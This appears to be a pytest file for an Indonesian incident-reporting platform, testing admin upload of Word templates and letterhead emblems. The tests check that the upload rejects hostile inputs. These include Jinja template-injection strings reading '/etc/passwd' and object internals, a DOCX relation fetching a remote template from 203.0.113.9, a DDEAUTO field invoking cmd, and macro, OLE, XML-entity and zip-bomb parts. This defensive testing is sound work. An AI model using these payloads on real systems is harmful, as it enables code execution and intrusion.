"""An office puts its own Word template and kop in place of the shipped ones; mistakes are refused with their place."""

import hashlib
import io
import zipfile
from typing import Any

import pytest
from docx import Document as WordDocument
from docx.oxml.ns import qn
from pypdf import PdfReader

from ir_platform.documents import confined
from tests.ir_platform.documents.reading import docx_text
from tests.support.api import Api, problem_of
from tests.support.paper import a_png, a_template, draw_all

KIND = "dokumen_informasi_gangguan"
AT = f"/api/v1/templates/{KIND}"
EMBLEM = "/api/v1/letterhead/lambang"
KOP = {"alamat": "Jalan Contoh 1", "tempat": "Samarinda", "kontak": "Telepon 112", "kode_klasifikasi": "000.5.3"}


def put(api: Api, data: bytes, who: str = "admin") -> Any:
    return api.client(who).put(AT, files={"file": ("kop.docx", data)})


def with_part(name: str, content: bytes) -> bytes:
    """The shipped template with a part more, or in another's place."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(a_template(KIND))) as old,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for member in old.infolist():
            if member.filename != name:
                new.writestr(member, old.read(member))
        new.writestr(name, content)
    return buffer.getvalue()


def test_the_kinds_are_listed_with_what_a_template_may_print(api: Api) -> None:
    items = api.client("admin").get("/api/v1/templates").json()["items"]

    assert len(items) == 9
    assert {one["versi"] for one in items} == {None}
    names = {one["nama"] for one in items[0]["variabel"]}
    assert {"s.judul_dokumen", "s.naskah.nomor", "s.langkah[].oleh", "s.identitas[][0]", "verifikasi.qr"} <= names


def test_an_offices_template_draws_the_documents_that_follow_and_those_alone(api: Api) -> None:
    kabid = api.client("kabid")
    before = api.report()

    answer = put(api, a_template(KIND, text="Kop Diskominfo Contoh {{ s.naskah.nomor_dokumen }}"))

    assert answer.status_code == 200, answer.text
    assert answer.json()["versi"] == 1
    after = api.report()
    for incident, expected in ((before, False), (after, True)):
        document = draw_all(api, incident["id"])[0]
        docx = kabid.get(f"/api/v1/incidents/{incident['id']}/documents/{document.id}.docx").content
        assert ("Kop Diskominfo Contoh DIG/2026/" in docx_text(docx)) is expected


def test_a_template_that_went_out_of_use_still_draws_the_documents_made_with_it(api: Api) -> None:
    admin, kabid = api.client("admin"), api.client("kabid")
    put(api, a_template(KIND, text="Kop lama"))
    incident = api.report()

    assert admin.delete(AT).status_code == 204
    assert put(api, a_template(KIND, text="Kop baru")).json()["versi"] == 2

    document = draw_all(api, incident["id"])[0]
    text = docx_text(kabid.get(f"/api/v1/incidents/{incident['id']}/documents/{document.id}.docx").content)
    assert "Kop lama" in text
    assert "Kop baru" not in text


def test_the_template_in_use_can_be_fetched_to_be_restyled(api: Api) -> None:
    admin = api.client("admin")
    shipped = admin.get(f"{AT}/docx").content
    own = a_template(KIND, text="Kop sendiri")

    put(api, own)

    assert WordDocument(io.BytesIO(shipped)).paragraphs
    assert admin.get(f"{AT}/docx").content == own


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("Nomor: {{ s.naskah.nomr }}", "variabel “s.naskah.nomr” tidak dikenal; mungkin maksudnya s.naskah.nomor"),
        ("{{ nama_pejabat }}", "variabel “nama_pejabat” tidak dikenal"),
        ("{% for one in s.langkah %}{{ one.oleh }}", "tanda {% for %} tidak ditutup"),
        ("{% endif %}", "tanda {% endif %} tidak mempunyai pembuka"),
        ("{{ s.judul", "tanda templat salah tulis"),
        ("{{ s.__class__.__mro__ }}", "tidak dikenal"),
        ("{{ ''.join.__globals__ }}", "tidak dikenal"),
        ("{{ s.judul.format(s) }}", "tidak tersedia"),
        ("{{ s.judul|attr('x') }}", "saringan “attr” tidak tersedia"),
        ("{{ 9 ** 999999 }}", "tidak tersedia"),
        ("{% for one in range(9) %}{% endfor %}", "tidak tersedia"),
        ("{% set a = s %}", "tidak tersedia"),
        ("{% include '/etc/passwd' %}", "tidak tersedia"),
        ("{% for one in s.judul %}{% endfor %}", "bukan daftar"),
        ("{{ verifikasi.qr.tpl }}", "tidak dikenal"),
    ],
)
def test_a_mistake_is_refused_with_its_place_and_nothing_changes(api: Api, text: str, reason: str) -> None:
    files, before = api.stored_files(), api.everything()

    problem = problem_of(put(api, a_template(KIND, text=text)), 422)

    (fault,) = problem["errors"]
    assert fault["tempat"] == f"badan, paragraf “{text}”"
    assert reason in fault["alasan"]
    assert api.everything() == before
    assert api.stored_files() == files


def test_a_mistake_in_a_table_is_placed_in_its_cell(api: Api) -> None:
    problem = problem_of(put(api, a_template(KIND, cell="Kepala: {{ s.kepla }}")), 422)

    assert problem["errors"] == [
        {"tempat": "badan, sel tabel “Kepala: {{ s.kepla }}”", "alasan": "variabel “s.kepla” tidak dikenal"}
    ]


RELATION = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://203.0.113.9/jahat.dotm" TargetMode="External"/></Relationships>'
)
HIDDEN_RELATION = (
    RELATION.replace(b"External", b"&#69;xternal")
    .replace(b"<Relationship ", b"<r:Relationship x='>' ")
    .replace(b"<Relationships ", b"<Relationships xmlns:r='x' ")
)
FIELD = (
    b'<w:ftr xmlns:w="x"><w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText>'
    b'<w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText><!-- --><w:instrText>AUTO c:\\cmd</w:instrText>'
    b'<w:fldChar w:fldCharType="end"/></w:ftr>'
)
SIMPLE_FIELD = b"<w:ftr xmlns:w='x'><w:fldSimple w:instr='&#73;NCLUDEPICTURE \"\\\\203.0.113.9\\a.png\"'/></w:ftr>"
BOMB = b'<!DOCTYPE a [<!ENTITY b "cccc">]><a>&b;</a>'


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"bukan berkas Word", "bukan berkas Word"),
        (b"PK\x03\x04 rusak", "bukan berkas Word"),
        (with_part("word/vbaProject.bin", b"x"), "makro"),
        (with_part("word/_rels/settings.xml.rels", RELATION), "merujuk ke luar berkas (http://203.0.113.9/jahat.dotm)"),
        (with_part("word/_rels/settings.xml.rels", HIDDEN_RELATION), "merujuk ke luar berkas (http://203.0.113.9/"),
        (with_part("word/footer9.xml", FIELD), "bidang Word DDEAUTO"),
        (with_part("word/footer9.xml", SIMPLE_FIELD), "bidang Word INCLUDEPICTURE"),
        (with_part("word/footer9.xml", "<a/>".encode("utf-16-le")), "deklarasi"),
        (with_part("word/footer9.xml", b'<?xml version="1.0" encoding="utf-7"?><a/>'), "deklarasi"),
        (with_part("word/embeddings/oleObject1.doc", b"x"), "objek yang disematkan"),
        (with_part("word/besar.xml", bytes(60_000_000)), "terlalu besar setelah dibuka"),
        (with_part("word/comments.xml", BOMB), "deklarasi"),
        (with_part("word/document.xml", b"<w:document"), "bukan berkas Word"),
    ],
    ids=[
        "text",
        "damaged",
        "macro",
        "outside",
        "outside, hidden",
        "field",
        "simple field",
        "other encoding",
        "other encoding, declared",
        "object",
        "bomb",
        "entities",
        "broken xml",
    ],
)
def test_a_file_that_may_do_harm_is_refused(api: Api, data: bytes, reason: str) -> None:
    before = api.everything()

    problem = problem_of(put(api, data), 422)

    assert reason in problem["errors"][0]["alasan"]
    assert api.everything() == before


def test_a_template_that_takes_too_long_is_refused(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(confined, "CPU_SECONDS", 3)
    # Four loops over two thousand rows each cannot be told from a right template before it is tried.
    deep = "".join(f"{{% for {name} in s.identitas %}}" for name in "abcdefgh") + "x" + "{% endfor %}" * 8

    problem = problem_of(put(api, a_template(KIND, text=deep)), 422)

    assert "batas" in problem["errors"][0]["alasan"] or "melebihi" in problem["errors"][0]["alasan"]


@pytest.mark.parametrize(("who", "status"), [(None, 401), ("kabid", 403), ("opd", 403)])
def test_templates_and_kop_are_the_administrators(api: Api, who: str | None, status: int) -> None:
    client = api.client(who) if who else api.stranger()
    before = api.everything()

    problem_of(client.get("/api/v1/templates"), status)
    problem_of(client.put(AT), status)
    problem_of(client.delete(AT), status)
    problem_of(client.get("/api/v1/letterhead"), status)
    problem_of(client.put("/api/v1/letterhead", json=KOP), status)
    problem_of(client.get(EMBLEM), status)
    problem_of(client.put(EMBLEM), status)
    problem_of(client.delete(EMBLEM), status)

    assert api.everything() == before


def test_a_kind_that_is_none_is_not_found(api: Api) -> None:
    admin = api.client("admin")

    problem_of(admin.put("/api/v1/templates/surat_cinta", files={"file": ("a.docx", a_template(KIND))}), 404)
    problem_of(admin.delete(AT), 404)


def test_the_kop_stands_on_papers_that_are_made_afterwards(api: Api) -> None:
    admin, kabid = api.client("admin"), api.client("kabid")

    assert admin.put("/api/v1/letterhead", json=KOP).status_code == 200

    shown = admin.get("/api/v1/letterhead").json()
    assert {name: words for name, words in shown.items() if words and not name.startswith("batas_")} == KOP
    incident = api.report()
    document = draw_all(api, incident["id"])[0]
    text = docx_text(kabid.get(f"/api/v1/incidents/{incident['id']}/documents/{document.id}.docx").content)
    assert "Jalan Contoh 1" in text
    assert "000.5.3" in text
    with api.state.read() as uow:
        assert [entry.fact.action for entry in uow.audit.of_subject("office:utama")] == ["letterhead.changed"]


def put_emblem(api: Api, data: bytes) -> Any:
    return api.client("admin").put(EMBLEM, files={"file": ("lambang.png", data)})


def pictures_of(client: Any, at: str) -> tuple[int, int]:
    """How many pictures stand in the DOCX and in the PDF."""
    word = WordDocument(io.BytesIO(client.get(f"{at}.docx").content))
    pages = PdfReader(io.BytesIO(client.get(f"{at}.pdf").content)).pages
    return len(word.inline_shapes), sum(len(page.images) for page in pages)


def test_the_emblem_stands_in_the_kop_of_papers_made_afterwards_and_stays_in_theirs(api: Api) -> None:
    kabid, emblem = api.client("kabid"), a_png(30, 40)
    before = api.report()

    answer = put_emblem(api, emblem)

    assert answer.status_code == 200, answer.text
    assert answer.json()["lambang"]["sha256"] == hashlib.sha256(emblem).hexdigest()
    after = api.report()
    papers = [f"/api/v1/incidents/{one['id']}/documents/{draw_all(api, one['id'])[0].id}" for one in (before, after)]
    without, with_it = (pictures_of(kabid, at) for at in papers)
    assert (with_it[0] - without[0], with_it[1] - without[1]) == (1, 1)
    assert api.client("admin").delete(EMBLEM).status_code == 204
    kabid.put(f"{papers[1]}/nomor-naskah", json={"nomor": "800/1", "tanggal": "2026-11-23"})
    draw_all(api, after["id"])
    assert pictures_of(kabid, papers[1]) == with_it


def test_an_office_template_prints_the_emblem_too(api: Api) -> None:
    put_emblem(api, a_png(30, 40))
    assert put(api, a_template(KIND, text="{{ kop.lambang }}")).status_code == 200

    incident = api.report()

    at = f"/api/v1/incidents/{incident['id']}/documents/{draw_all(api, incident['id'])[0].id}"
    word = WordDocument(io.BytesIO(api.client("kabid").get(f"{at}.docx").content))
    assert word.paragraphs[-1]._p.findall(".//" + qn("w:drawing"))


def test_words_of_the_kop_leave_the_emblem_and_the_emblem_the_words(api: Api) -> None:
    admin, emblem = api.client("admin"), a_png(30, 40)
    admin.put("/api/v1/letterhead", json=KOP)
    put_emblem(api, emblem)

    shown = admin.put("/api/v1/letterhead", json={**KOP, "tempat": "Tenggarong"}).json()

    assert (shown["tempat"], shown["alamat"]) == ("Tenggarong", KOP["alamat"])
    picture = admin.get(EMBLEM)
    assert (picture.content, picture.headers["content-type"]) == (emblem, "image/png")


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"<svg onload='alert(1)'/>", "PNG atau JPEG"),
        (b"GIF89a" + bytes(40), "PNG atau JPEG"),
        (a_png(3, 3)[:30], "PNG atau JPEG"),
        (a_png(2_001, 1), "2000 piksel"),
        (bytes(600 * 1024), "512 KiB"),
    ],
)
def test_a_picture_that_papers_cannot_carry_is_refused_with_the_reason(api: Api, data: bytes, reason: str) -> None:
    before = api.everything()

    problem = problem_of(put_emblem(api, data), 422)

    assert reason in problem["detail"]
    assert api.everything() == before


def test_an_emblem_that_is_not_there_is_not_found(api: Api) -> None:
    admin = api.client("admin")

    problem_of(admin.get(EMBLEM), 404)
    problem_of(admin.delete(EMBLEM), 404)
